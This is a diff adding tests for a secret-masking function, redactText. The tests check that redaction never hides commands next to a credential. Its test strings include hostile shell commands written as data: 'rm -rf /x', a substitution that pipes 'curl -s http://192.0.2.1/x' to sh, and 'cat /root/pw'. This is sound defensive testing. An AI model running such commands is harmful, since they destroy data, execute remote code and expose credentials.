@@ -182,6 +182,16 @@ describe('a mask never hides the commands around a secret (issue 13 red team)', 
     }
   });
 
+  it('an option or header left without its value at the end of a line does not take the next line', () => {
+    for (const line of ['curl -H X-API-Key:\nrm -rf /x', 'sshpass -p\nrm -rf /x', 'redis-cli -a\nrm -rf /x', 'tool --password\nrm -rf /x', 'pveum user add bob@pve --password\r\nrm -rf /x']) {
+      expect(redactText(line), line).toBe(line);
+    }
+    // a bare scheme word may be masked itself (over-masking one word), never the next line
+    expect(redactText('curl -H Authorization: Basic\nrm -rf /x')).toMatch(/\nrm -rf \/x$/);
+    // inside quotes the next line is still the value
+    expect(redactText('curl -H "X-API-Key:\nQz7Sec" http://x')).not.toContain('Qz7Sec');
+  });
+
   it('a value that is a substitution is not masked: the command inside it stays visible', () => {
     for (const line of ['pveum user add bob@pve --password $(curl -s http://192.0.2.1/x|sh)', 'sshpass -p "$(cat /root/pw)" ssh h', 'tool --api-key `id` x', 'mysql --password=$(id) db']) {
       const out = redactText(line);
